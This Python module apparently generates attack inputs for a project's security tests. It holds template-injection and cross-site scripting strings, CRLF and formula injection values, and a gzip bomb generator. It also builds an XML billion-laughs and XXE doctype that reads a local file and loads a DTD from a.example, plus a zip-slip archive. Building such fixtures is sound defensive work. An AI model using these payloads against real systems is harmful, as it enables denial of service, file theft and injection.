"""Material of attacks, made here so that no file of the repository is one."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator

# What an engine of templates would work out, by the mark that it would leave.
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% for x in (1,2) %}{{x}}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{0.__class__}",
    "%(password)s",
    "$AIRDATE_TMDB_KEY",
)
# What a browser would run or load, were it taken for markup.
SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title></script><svg onload=alert(1)>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
# What would begin a line of its own in a calendar, a log or the head of an answer.
LINES = ("a\r\nBEGIN:VEVENT\r\nSUMMARY:forged", "a\nERROR forged", "a\r\nSet-Cookie: forged=1")
# What a spreadsheet would work out.
FORMULAS = ('=HYPERLINK("http://a.example","x")', "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1")


def gzip_bomb(unpacked_bytes: int) -> Iterator[bytes]:
    """Yield a body packed by gzip that becomes so many bytes, piece by piece."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    piece = b"\0" * 1_000_000
    for _ in range(unpacked_bytes // len(piece)):
        yield packer.compress(piece)
    yield packer.flush()


def doctype(root: str, *, file: str) -> str:
    """Return a document type whose entity `l11` is 10¹² bytes, and `f` a file of this machine."""
    levels = "".join(
        f'<!ENTITY l{n} "{"".join(f"&l{n - 1};" for _ in range(10)) if n else "lol"}">'
        for n in range(12)
    )
    outside = f'<!ENTITY f SYSTEM "file://{file}"><!ENTITY % p SYSTEM "http://a.example/x.dtd"> %p;'
    return f"<!DOCTYPE {root} [{levels}{outside}]>"


def nested(tag: str, *, levels: int, inside: str = "") -> str:
    """Return an element in itself so many times."""
    return f"<{tag}>" * levels + inside + f"</{tag}>" * levels


def crafted_zip() -> bytes:
    """Return an archive whose members lead out of where they are unpacked to."""
    import zipfile

    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name in ("../out.txt", "/etc/out.txt", "a/../../out.txt", "..\\out.txt", "C:\\out.txt"):
            archive.writestr(name, "Ebb\n")
    return made.getvalue()
